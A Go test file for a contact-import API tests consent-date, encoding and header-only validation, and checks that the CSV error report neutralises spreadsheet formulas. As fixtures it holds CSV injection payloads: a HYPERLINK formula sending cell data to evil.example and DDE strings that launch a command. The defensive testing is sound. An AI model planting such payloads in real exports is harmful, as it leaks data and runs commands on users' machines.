package api

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/pregon/pregon/importers"
	"github.com/pregon/pregon/store"
)

// uploadFor uploads data as name and returns the import's path.
func uploadFor(t *testing.T, m caller, name string, data []byte) string {
	t.Helper()
	var up uploadResponse
	m.upload(name, data).expect(t, http.StatusCreated).JSON(t, &up)
	return fmt.Sprintf("/api/v1/imports/%d", up.Import.ID)
}

func TestImportConfirmRefusesWhatCannotImport(t *testing.T) {
	t.Parallel()

	t.Run("ConsentDateInTheFuture", func(t *testing.T) {
		t.Parallel()
		env := newTestEnv(t)
		m := env.as(store.RoleMarketer)
		path := uploadFor(t, m, "c.csv", []byte("Nombre;Celular\nAna;3001234567\n"))
		future := time.Now().AddDate(3, 0, 0).UTC().Format(time.RFC3339)
		var e struct {
			Code    string          `json:"code"`
			Details []store.Problem `json:"details"`
		}
		m.do(http.MethodPost, path+"/confirm", map[string]any{"consent": map[string]any{"declared": true, "source": "tienda", "at": future}}).
			expect(t, http.StatusUnprocessableEntity).JSON(t, &e)
		if len(e.Details) != 1 || e.Details[0].Path != "consent.at" || !strings.Contains(e.Details[0].Message, "futuro") {
			t.Errorf("error %+v", e)
		}
		past := time.Now().AddDate(-1, 0, 0).UTC().Format(time.RFC3339)
		m.do(http.MethodPost, path+"/confirm", map[string]any{"consent": map[string]any{"declared": true, "source": "tienda", "at": past}}).
			expect(t, http.StatusAccepted)
	})

	t.Run("UTF8ChosenForAWindows1252File", func(t *testing.T) {
		t.Parallel()
		env := newTestEnv(t)
		m := env.as(store.RoleMarketer)
		path := uploadFor(t, m, "c.csv", []byte("Nombre;Celular\nPe\xf1a;3001234567\n"))
		var e Error
		m.do(http.MethodPost, path+"/confirm", map[string]any{"encoding": "utf-8"}).expect(t, http.StatusUnprocessableEntity).JSON(t, &e)
		if e.Code != importers.ErrCodeEncoding || !strings.Contains(e.Message, "no está en UTF-8") {
			t.Errorf("error %+v", e)
		}
		// Its own encoding is fine; so is Mac Roman when the user says so.
		var imp store.Import
		m.do(http.MethodPost, path+"/confirm", map[string]any{"encoding": "macintosh"}).expect(t, http.StatusAccepted).JSON(t, &imp)
		if imp.Encoding != importers.EncMacintosh {
			t.Errorf("encoding %q", imp.Encoding)
		}
	})

	t.Run("HeaderOnlyFile", func(t *testing.T) {
		t.Parallel()
		env := newTestEnv(t)
		m := env.as(store.RoleMarketer)
		path := uploadFor(t, m, "h.csv", []byte("Nombre;Celular;Correo\n"))
		var e Error
		m.do(http.MethodPost, path+"/confirm", map[string]any{}).expect(t, http.StatusUnprocessableEntity).JSON(t, &e)
		if e.Code != importers.ErrCodeNoRows || !strings.Contains(e.Message, "solo tiene encabezados") {
			t.Errorf("error %+v", e)
		}
	})
}

// The error report's CSV shows the file's values as text: one starting with = + - @ would run
// as a formula in Excel (a link leaking the next cell, a DDE command).
func TestImportErrorReportGuardsFormulas(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t)
	m := env.as(store.RoleMarketer)
	const (
		hyperlink = `=HYPERLINK("http://evil.example/?x="&B2,"clic")`
		dde       = `+1+cmd|' /C calc'!A0`
		at        = `@SUM(1+1)*cmd|' /C calc'!A0`
	)
	data := "Nombre;Celular;Correo\n" +
		`"` + strings.ReplaceAll(hyperlink, `"`, `""`) + `";3001234567;` + dde + "\n" +
		"-12,5;3109876543;" + at + "\n"
	path := uploadFor(t, m, "c.csv", []byte(data))
	var imp store.Import
	m.do(http.MethodPost, path+"/confirm", map[string]any{}).expect(t, http.StatusAccepted).JSON(t, &imp)
	env.runImportJob(t, imp.ID)

	r := m.do(http.MethodGet, path+"/errors?format=csv", nil).expect(t, http.StatusOK)
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.Body), "\xEF\xBB\xBF")))
	cr.FieldsPerRecord = -1 // the original rows are as wide as they were
	lines, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, r.Body)
	}
	if len(lines) != 3 {
		t.Fatalf("report %q", lines)
	}
	// fila, columna, valor, motivo, then the original row.
	want := [][]string{
		{"2", "Correo", "'" + strings.ToLower(dde), "correo electrónico inválido", "'" + hyperlink, "3001234567", "'" + dde},
		{"3", "Correo", "'" + strings.ToLower(at), "correo electrónico inválido", "-12,5", "3109876543", "'" + at},
	}
	for i, w := range want {
		if got := lines[i+1]; strings.Join(got, "|") != strings.Join(w, "|") {
			t.Errorf("line %d = %q, want %q", i+2, got, w)
		}
	}
}
